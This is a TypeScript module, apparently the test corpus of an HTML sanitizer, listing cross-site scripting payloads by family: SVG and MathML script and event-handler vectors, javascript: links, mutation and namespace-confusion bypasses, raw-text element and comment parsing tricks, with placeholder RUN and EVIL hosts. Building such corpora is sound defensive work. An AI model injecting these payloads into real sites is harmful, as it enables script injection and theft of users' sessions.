import { type Family, inert } from '../vector.ts'

const svg: Family = {
  name: 'SVG',
  vectors: [
    '<svg><script>RUN</script></svg>',
    '<svg><script>&#104;it&lpar;0&rpar;</script><script href="EVIL.js"/></svg>',
    '<svg><script xlink:href="EVIL.js"/></svg>',
    '<svg><script type="text/ecmascript"><![CDATA[RUN]]></script></svg>',
    '<svg><a href="javascript:RUN"><text y=20>x</text></a></svg>',
    '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
    '<svg><a xlink:href=" java&Tab;script:RUN"><rect width=9 height=9 /></a></svg>',
    '<svg><a><text y=20>x</text><set attributeName="href" to="javascript:RUN"/></a></svg>',
    '<svg><a><text y=20>x</text><animate attributeName="href" values="javascript:RUN" dur="9s"/></a></svg>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s /></svg>',
    '<svg><set onbegin=RUN attributeName=x to=y dur=1s /></svg>',
    '<svg><animate onend=RUN attributeName=x dur=1ms /></svg>',
    '<svg><animatetransform onbegin=RUN attributeName=transform dur=1s /></svg>',
    '<svg><image href=x onerror=RUN /></svg>',
    '<svg><image href="EVIL.png" /></svg>',
    '<svg><image xlink:href="EVIL.png" /></svg>',
    '<svg><filter id=f17><feImage href="EVIL.png" /></filter><rect width=9 height=9 filter="url(#f17)" /></svg>',
    '<svg><style>@import "EVIL.css";</style></svg>',
    '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
    '<svg><rect width=9 height=9 onclick=RUN /></svg>',
    '<svg><title><img src=x onerror=RUN></title></svg>',
    '<svg><desc><iframe onload=RUN></iframe></desc></svg>',
    '<svg viewBox="0 0 1 1" onfocusin=RUN tabindex=1>x</svg>',
    '<svg><text style="fill:url(EVIL.svg#x)" y=20>x</text></svg>',
    inert(
      '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler></svg>',
      'SVG Tiny only',
    ),
    inert(
      "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x\" /></svg>",
      'data: is refused in <use> since 2023',
    ),
  ],
}

const mathml: Family = {
  name: 'MathML',
  vectors: [
    '<math><mtext><img src=x onerror=RUN></mtext></math>',
    '<math><mi onclick=RUN>x</mi></math>',
    '<math onmouseover=RUN><mn>1</mn></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
    '<math><annotation-xml encoding="application/xhtml+xml"><script>RUN</script></annotation-xml></math>',
    '<math><annotation-xml><svg><script>RUN</script></svg></annotation-xml></math>',
    '<math><ms><iframe onload=RUN></iframe></ms></math>',
    '<math><maction actiontype="toggle" onclick=RUN><mn>1</mn><mn>2</mn></maction></math>',
    '<math style="background:url(EVIL.png)" display=block><mn>1</mn></math>',
    '<math><mrow tabindex=0 autofocus onfocus=RUN><mn>1</mn></mrow></math>',
    inert('<math href="javascript:RUN"><mn>1</mn></math>', 'Firefox only'),
    inert('<math><mrow xlink:href="javascript:RUN"><mn>1</mn></mrow></math>', 'Firefox only'),
    inert(
      '<math><maction actiontype="statusline#javascript:RUN" xlink:href="javascript:RUN">x</maction></math>',
      'old Firefox only',
    ),
  ],
}

const image = '<img src=1 onerror=RUN>'

/** HTML that a parser writes out differently from how it reads it again: harmless once, hostile the second time. */
const mutations: Family = {
  name: 'mutation and namespace confusion',
  vectors: [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">`,
    `<math><mtext><table><mglyph><style><math>${image}</style></table></mtext></math>`,
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${image}"></style></h1>`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}</style></mglyph></form></mtext></math>`,
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><p><style><!--</style>${image}--></style></svg>`,
    `<svg><style>${image}</style></svg>`,
    `<svg><title><style><!--</style>${image}</title></svg>`,
    `<math><style>${image}</style></math>`,
    `<math><annotation-xml encoding="text/html"><style><img title="</style>${image}"></style></annotation-xml></math>`,
    `<math><p></p><style><img title="</style>${image}"></style></math>`,
    `<svg><foreignObject><math><style>${image}</style></math></foreignObject></svg>`,
    `<table><svg><style>${image}</style></svg></table>`,
    `<table><tr><script>RUN</script></table>`,
    `<table><caption>${image}</table>`,
    `<a><table><a>${image}</table></a>`,
    `<p><svg></p>${image}</svg>`,
    `<div><math><b></math>${image}</b></div>`,
    `<svg><font color>${image}</font></svg>`,
    `<svg><a><foreignobject><a><table><a></table><style>${image}</style></a></a></svg>`,
    `<br></br>${image}</p>`,
    `<nobr><b><nobr>${image}`,
    `${'<b><i>'.repeat(20)}${image}`,
    `<frameset>${image}</frameset>`,
  ],
}

/** Elements whose content one parser takes for text and another for HTML. */
const rawText: Family = {
  name: 'raw text elements and scripting-dependent parsing',
  vectors: [
    `<noscript><!--</noscript>${image}--></noscript>`,
    `<noscript><style></noscript>${image}</style></noscript>`,
    `<noscript><a id="</noscript><script>RUN</script>"></a></noscript>`,
    `<textarea></textarea>${image}`,
    `<textarea><b title="</textarea>${image}">`,
    `<title><a href="</title>${image}">`,
    `<title>x</title>${image}`,
    `<style></style>${image}`,
    `<style><b title="</style>${image}">`,
    `<xmp><b title="</xmp>${image}"></xmp>`,
    `<noembed><b title="</noembed>${image}"></noembed>`,
    `<noframes><b title="</noframes>${image}"></noframes>`,
    `<iframe><b title="</iframe>${image}"></iframe>`,
    `<template></template>${image}`,
    `<select><style></select>${image}</style>${image}</select>`,
    `<select><option></select>${image}`,
    `<button><noscript></button>${image}</noscript>`,
    inert(`<template>${image}</template>`, 'a template stays inert'),
    inert(`<xmp>${image}</xmp>`, 'text'),
    inert(`<plaintext>${image}`, 'text'),
    inert(`<textarea>${image}</textarea>`, 'text'),
  ],
}

const comments: Family = {
  name: 'comments, CDATA, doctypes and instructions',
  vectors: [
    `<!-->${image}-->`,
    `<!--->${image}-->`,
    `<!-- x -->${image}`,
    `<!-- x --!>${image}<!-- -->`,
    `<!--\n\n-->${image}`,
    `<!-- <!-- -->${image} -->`,
    `<div><![CDATA[ > ${image} ]]></div>`,
    `<div><![CDATA[><script>RUN</script>]]></div>`,
    `<svg><![CDATA[x]]><desc>${image}</desc></svg>`,
    `<svg><desc><![CDATA[>${image}]]></desc></svg>`,
    `<?xml version="1.0"?>${image}`,
    `<div><?x >${image} ?></div>`,
    `<div><!x>${image}</div>`,
    `<div><!x "> ${image}"></div>`,
    `<!DOCTYPE html>${image}`,
    `<!DOCTYPE x [<!ENTITY y "z">]>${image}`,
    `<div></ ${image}>${image}</div>`,
    `<div></?x>${image}</div>`,
    inert(`<!--[if IE]>${image}<![endif]-->`, 'Internet Explorer only'),
    inert(`<?xml-stylesheet type="text/css" href="EVIL.css"?>`, 'XML only'),
    inert(`<!-- ${image} -->`, 'a comment'),
    inert('<![CDATA[<b onclick=RUN]]>', 'a comment in HTML'),
  ],
}

export const parsing: readonly Family[] = [svg, mathml, mutations, rawText, comments]
